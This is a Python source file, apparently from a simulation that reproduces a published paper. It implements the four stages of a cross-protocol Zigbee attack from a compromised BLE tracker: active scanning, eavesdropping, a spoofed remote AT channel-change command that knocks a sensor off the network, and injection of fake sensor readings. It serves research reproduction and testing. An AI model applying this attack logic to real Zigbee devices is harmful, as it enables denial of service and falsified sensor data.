@@ -1,0 +1,220 @@
+"""Scenario B: complex Zigbee attack from a compromised BLE tracker (§VI-C).
+
+Four stages, exactly as the paper's figure 5 workflow:
+
+1. **Active scanning** — transmit a Beacon Request per channel, wait for a
+   Beacon; collect channel, PAN id and coordinator address.
+2. **Eavesdropping** — sniff legitimate data frames to learn the sensor's
+   address.
+3. **Remote AT command injection** — forge a remote AT ``CH`` command with
+   the coordinator's address as source and the sensor's as destination,
+   forcing the sensor onto another channel (the Vaccari et al. denial of
+   service).
+4. **Fake data injection** — impersonate the silenced sensor, feeding
+   attacker-chosen readings to the coordinator's display.
+
+Everything is event-driven on the simulation scheduler; the attack keeps a
+timestamped log so benches/tests can assert the workflow.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from enum import Enum
+from typing import Callable, List, Optional, Sequence
+
+from repro.core.firmware import ScanResult, WazaBeeFirmware
+from repro.core.rx import DecodedFrame
+from repro.dot15d4.channels import ZIGBEE_CHANNELS
+from repro.dot15d4.frames import Address, FrameType, MacFrame, build_data
+from repro.zigbee.xbee import AtCommand, RemoteAtCommand, SensorReading
+
+__all__ = ["AttackPhase", "TrackerAttack", "AttackLogEntry"]
+
+
+class AttackPhase(Enum):
+    IDLE = "idle"
+    SCANNING = "scanning"
+    EAVESDROPPING = "eavesdropping"
+    AT_INJECTION = "at-injection"
+    SPOOFING = "spoofing"
+    DONE = "done"
+    FAILED = "failed"
+
+
+@dataclass
+class AttackLogEntry:
+    time: float
+    phase: AttackPhase
+    message: str
+
+
+class TrackerAttack:
+    """The §VI-C attack state machine, running on WazaBee firmware."""
+
+    def __init__(
+        self,
+        firmware: WazaBeeFirmware,
+        channels: Sequence[int] = ZIGBEE_CHANNELS,
+        target_pan_id: Optional[int] = None,
+        dos_channel: int = 26,
+        fake_value: int = 99,
+        fake_report_interval_s: float = 2.0,
+        fake_report_count: int = 5,
+        eavesdrop_timeout_s: float = 6.0,
+        scan_dwell_s: float = 0.05,
+        at_injection_delay_s: float = 0.01,
+        at_injection_repeats: int = 3,
+    ):
+        self.firmware = firmware
+        self.channels = list(channels)
+        self.target_pan_id = target_pan_id
+        self.dos_channel = dos_channel
+        self.fake_value = fake_value
+        self.fake_report_interval_s = fake_report_interval_s
+        self.fake_report_count = fake_report_count
+        self.eavesdrop_timeout_s = eavesdrop_timeout_s
+        self.scan_dwell_s = scan_dwell_s
+        self.at_injection_delay_s = at_injection_delay_s
+        self.at_injection_repeats = at_injection_repeats
+
+        self.phase = AttackPhase.IDLE
+        self.log: List[AttackLogEntry] = []
+        self.network: Optional[ScanResult] = None
+        self.sensor_address: Optional[Address] = None
+        self.coordinator_address: Optional[Address] = None
+        self.fake_reports_sent = 0
+        self._fake_counter = 1000
+        self._on_complete: Optional[Callable[["TrackerAttack"], None]] = None
+
+    # -- public ------------------------------------------------------------
+    def run(
+        self, on_complete: Optional[Callable[["TrackerAttack"], None]] = None
+    ) -> None:
+        """Start the attack; phases advance via scheduled callbacks."""
+        self._on_complete = on_complete
+        self._enter(AttackPhase.SCANNING, "starting active scan")
+        self.firmware.active_scan(
+            self.channels, dwell_s=self.scan_dwell_s, on_complete=self._scanned
+        )
+
+    @property
+    def scheduler(self):
+        return self.firmware.scheduler
+
+    def _log(self, message: str) -> None:
+        self.log.append(
+            AttackLogEntry(time=self.scheduler.now, phase=self.phase, message=message)
+        )
+
+    def _enter(self, phase: AttackPhase, message: str) -> None:
+        self.phase = phase
+        self._log(message)
+
+    def _fail(self, message: str) -> None:
+        self._enter(AttackPhase.FAILED, message)
+        if self._on_complete is not None:
+            self._on_complete(self)
+
+    # -- stage 1 → 2 ---------------------------------------------------------
+    def _scanned(self, results: List[ScanResult]) -> None:
+        for result in results:
+            if self.target_pan_id is None or result.pan_id == self.target_pan_id:
+                self.network = result
+                break
+        if self.network is None:
+            self._fail(f"no network found on channels {self.channels}")
+            return
+        self.coordinator_address = Address(
+            pan_id=self.network.pan_id, address=self.network.coordinator_address
+        )
+        self._enter(
+            AttackPhase.EAVESDROPPING,
+            f"found PAN 0x{self.network.pan_id:04x} on channel "
+            f"{self.network.channel} (coordinator {self.coordinator_address})",
+        )
+        self.firmware.start_sniffer(self.network.channel, self._sniffed)
+        self.scheduler.schedule(self.eavesdrop_timeout_s, self._eavesdrop_timeout)
+
+    # -- stage 2 → 3 ---------------------------------------------------------
+    def _sniffed(self, frame: MacFrame, _decoded: DecodedFrame) -> None:
+        if self.phase is not AttackPhase.EAVESDROPPING:
+            return
+        if frame.frame_type is not FrameType.DATA or frame.source is None:
+            return
+        if frame.destination is None or self.coordinator_address is None:
+            return
+        if frame.destination.address != self.coordinator_address.address:
+            return
+        self.sensor_address = frame.source
+        self._log(f"identified sensor {self.sensor_address}")
+        self._inject_at_command()
+
+    def _eavesdrop_timeout(self) -> None:
+        if self.phase is AttackPhase.EAVESDROPPING and self.sensor_address is None:
+            self._fail("eavesdropping timed out without seeing sensor traffic")
+
+    # -- stage 3 → 4 ---------------------------------------------------------
+    def _inject_at_command(self) -> None:
+        assert self.network and self.sensor_address and self.coordinator_address
+        self._enter(
+            AttackPhase.AT_INJECTION,
+            f"injecting remote AT CH={self.dos_channel} spoofed from "
+            f"{self.coordinator_address}",
+        )
+        self.firmware.stop_sniffer()
+        # The sniffed report is typically followed by the coordinator's
+        # acknowledgement; transmitting repeats with a small delay keeps the
+        # command clear of that exchange (the attacker cannot carrier-sense).
+        for repeat in range(self.at_injection_repeats):
+            self.scheduler.schedule(
+                self.at_injection_delay_s * (repeat + 1),
+                lambda r=repeat: self._send_at_command(r),
+            )
+        spoof_start = self.at_injection_delay_s * self.at_injection_repeats
+        self.scheduler.schedule(
+            spoof_start,
+            lambda: self._enter(AttackPhase.SPOOFING, "starting fake data injection"),
+        )
+        self.scheduler.schedule(
+            spoof_start + self.fake_report_interval_s, self._send_fake_report
+        )
+
+    def _send_at_command(self, repeat: int) -> None:
+        assert self.network and self.sensor_address and self.coordinator_address
+        command = RemoteAtCommand(
+            command=AtCommand.CHANNEL, parameter=bytes([self.dos_channel])
+        )
+        frame = build_data(
+            source=self.coordinator_address,
+            destination=self.sensor_address,
+            payload=command.to_payload(),
+            sequence_number=(0x70 + repeat) & 0xFF,
+            ack_request=False,
+        )
+        self.firmware.send_frame(frame, self.network.channel)
+        self._log(f"remote AT CH command sent (attempt {repeat + 1})")
+
+    # -- stage 4 -----------------------------------------------------------------
+    def _send_fake_report(self) -> None:
+        if self.phase is not AttackPhase.SPOOFING:
+            return
+        assert self.network and self.sensor_address and self.coordinator_address
+        self._fake_counter += 1
+        reading = SensorReading(counter=self._fake_counter, value=self.fake_value)
+        frame = build_data(
+            source=self.sensor_address,
+            destination=self.coordinator_address,
+            payload=reading.to_payload(),
+            sequence_number=self._fake_counter & 0xFF,
+            ack_request=True,
+        )
+        self.firmware.send_frame(frame, self.network.channel)
+        self.fake_reports_sent += 1
+        self._log(f"spoofed reading #{self.fake_reports_sent} value={self.fake_value}")
+        if self.fake_reports_sent >= self.fake_report_count:
+            self._enter(AttackPhase.DONE, "attack complete")
+            if self._on_complete is not None:
+                self._on_complete(self)
+            return
+        self.scheduler.schedule(self.fake_report_interval_s, self._send_fake_report)
